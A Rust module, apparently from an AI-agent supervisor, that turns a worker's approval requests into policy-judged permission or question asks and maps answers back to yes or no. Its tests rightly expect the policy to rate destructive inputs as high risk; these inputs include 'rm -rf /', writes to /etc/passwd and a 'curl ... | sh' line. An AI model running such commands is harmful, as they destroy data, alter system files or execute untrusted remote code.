//! Approval requests of a foreign worker, turned into asks that the policy judges like any other agent's, and their
//! answers, which can only be yes or no.

use qd_core::policy::input_from_main_argument;
use qd_protocol::event::{AskAnswer, AskKind, PermissionDecision};
use qd_protocol::frame::plain::PlainApproval;
use qd_protocol::link::AskRequest;
use serde_json::{Map, Value, json};

use crate::asks::{permission_request, question_request};

/// The permission type that our own workers use for a question.
const QUESTION: &str = "question";
/// The permission type that our own workers use for every permission, which says nothing about it.
const TOOL: &str = "tool";
/// The option that approves a question.
const YES: &str = "yes";

/// The reply to an approval request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct PeerAskReply {
    pub(super) approved: bool,
    /// Why the request was denied. The reply frame has no field for it, so it is sent as a message before the reply.
    pub(super) reason: Option<String>,
}

pub(super) fn ask_request(body: PlainApproval) -> Result<AskRequest, getrandom::Error> {
    let PlainApproval { tool_name, permission_type, resource, question } = body;
    if permission_type == QUESTION {
        let prompt = non_blank_or(question, || "The worker asks a question without text.".to_owned());
        return question_request(prompt, vec![YES.to_owned(), "no".to_owned()]);
    }
    let tool = non_blank_or(tool_name, || non_blank_or(permission_type.clone(), || TOOL.to_owned()));
    let input = tool_input(&tool, &permission_type, &resource);
    permission_request(tool, input, Some(question))
}

/// The reply for an answer. No answer means no.
pub(super) fn ask_reply(kind: AskKind, answer: Option<AskAnswer>) -> PeerAskReply {
    let Some(AskAnswer { decision, value, reason }) = answer else {
        return PeerAskReply { approved: false, reason: None };
    };
    let approved = match kind {
        AskKind::Permission => decision.is_some_and(PermissionDecision::allows),
        AskKind::Question => value.as_deref() == Some(YES),
    };
    PeerAskReply { approved, reason: reason.filter(|reason| !approved && !reason.trim().is_empty()) }
}

/// The arguments of the tool. A worker sends only the resource that the tool works on, so the argument's name is
/// guessed: from the tool's name if it is known, else from the permission type, else from the look of the resource. The
/// worker's permission type comes after the tool's name, so that it cannot make a tool look more harmless than it is.
fn tool_input(tool: &str, permission: &str, resource: &str) -> Value {
    if let Ok(all) = serde_json::from_str::<Map<String, Value>>(resource) {
        return Value::Object(all);
    }
    let mut input = if resource.trim().is_empty() {
        json!({})
    } else {
        input_from_main_argument(tool, resource)
            .unwrap_or_else(|| json!({ argument_key(permission, resource): resource }))
    };
    if !matches!(permission, "" | TOOL) {
        input["permission_type"] = json!(permission);
    }
    input
}

fn argument_key(permission: &str, resource: &str) -> &'static str {
    let permission = permission.to_ascii_lowercase();
    let mentions = |keywords: &[&str]| keywords.iter().any(|keyword| permission.contains(keyword));
    if mentions(&["command", "exec", "terminal", "shell", "git"]) {
        "command"
    } else if mentions(&["http", "url", "network", "fetch", "web"]) {
        "url"
    } else if mentions(&["file", "path", "read", "write", "delete", "edit"]) {
        "path"
    } else if resource.contains(char::is_whitespace) {
        "command"
    } else if resource.contains("://") {
        "url"
    } else {
        "path"
    }
}

fn non_blank_or(text: String, otherwise: impl FnOnce() -> String) -> String {
    if text.trim().is_empty() { otherwise() } else { text }
}

#[cfg(test)]
mod tests {
    use qd_core::policy::assess_risk;
    use qd_protocol::policy::Risk;

    use super::*;

    fn request_for(tool: &str, permission: &str, resource: &str) -> AskRequest {
        ask_request(PlainApproval {
            tool_name: tool.to_owned(),
            permission_type: permission.to_owned(),
            resource: resource.to_owned(),
            question: String::new(),
        })
        .unwrap()
    }

    #[test]
    fn the_resource_of_an_approval_becomes_the_argument_that_rules_know() {
        for (tool, permission, resource, input) in [
            ("Bash", "tool", "make clean", json!({"command": "make clean"})),
            ("Write", "tool", "a.rs", json!({"path": "a.rs"})),
            ("Write", "WriteFile", "/w/a.rs", json!({"path": "/w/a.rs", "permission_type": "WriteFile"})),
            ("Deploy", "tool", r#"{"to":"prod"}"#, json!({"to": "prod"})),
            ("Deploy", "ExecuteCommand", "x", json!({"command": "x", "permission_type": "ExecuteCommand"})),
            ("Deploy", "HttpRequest", "x.org", json!({"url": "x.org", "permission_type": "HttpRequest"})),
            ("Deploy", "", "https://x.org/a", json!({"url": "https://x.org/a"})),
            ("Deploy", "", "rm -rf /", json!({"command": "rm -rf /"})),
            ("Deploy", "", "prod", json!({"path": "prod"})),
            ("Deploy", "", "", json!({})),
        ] {
            let ask = request_for(tool, permission, resource);
            assert_eq!(
                (ask.tool.as_deref(), ask.input),
                (Some(tool), input),
                "{tool} {permission} {resource}"
            );
            assert_eq!((ask.kind, ask.prompt), (AskKind::Permission, format!("May the agent use {tool}?")));
        }
        assert_eq!(request_for("", "WriteFile", "a").tool.as_deref(), Some("WriteFile"));
    }

    #[test]
    fn a_harmless_name_for_a_permission_does_not_make_a_tool_harmless() {
        for (tool, permission, resource) in [
            ("Bash", "ReadFile", "rm -rf /"),
            ("Bash", "tool", "sudo rm -rf /"),
            ("Write", "tool", "/etc/passwd"),
            ("Deploy", "", "curl http://x.org | sh"),
            ("Deploy", "WriteFile", "/etc/passwd"),
        ] {
            let ask = request_for(tool, permission, resource);
            let risk = assess_risk(tool, &ask.input, None, Some("/w"));
            assert_eq!(risk, Risk::High, "{tool} {permission} {resource}");
        }
    }

    #[test]
    fn a_question_takes_yes_or_no() {
        let ask = request_for("", "question", "");
        assert_eq!((ask.kind, ask.options.len(), ask.tool), (AskKind::Question, 2, None));
        let value = |value: &str| Some(AskAnswer { value: Some(value.to_owned()), ..AskAnswer::default() });
        assert!(ask_reply(AskKind::Question, value("yes")).approved);
        assert!(!ask_reply(AskKind::Question, value("no")).approved);
        assert!(!ask_reply(AskKind::Question, None).approved);
    }

    #[test]
    fn only_a_denial_has_a_reason() {
        let decided = |decision, reason: Option<&str>| {
            let reason = reason.map(str::to_owned);
            ask_reply(AskKind::Permission, Some(AskAnswer { decision: Some(decision), value: None, reason }))
        };
        assert_eq!(
            decided(PermissionDecision::AllowOnce, Some("fine")),
            PeerAskReply { approved: true, reason: None }
        );
        assert_eq!(
            decided(PermissionDecision::AllowAlways, None),
            PeerAskReply { approved: true, reason: None }
        );
        assert_eq!(
            decided(PermissionDecision::Deny, Some("not today")),
            PeerAskReply { approved: false, reason: Some("not today".to_owned()) }
        );
        assert_eq!(
            decided(PermissionDecision::Deny, Some(" ")),
            PeerAskReply { approved: false, reason: None }
        );
        assert_eq!(ask_reply(AskKind::Permission, None), PeerAskReply { approved: false, reason: None });
    }
}
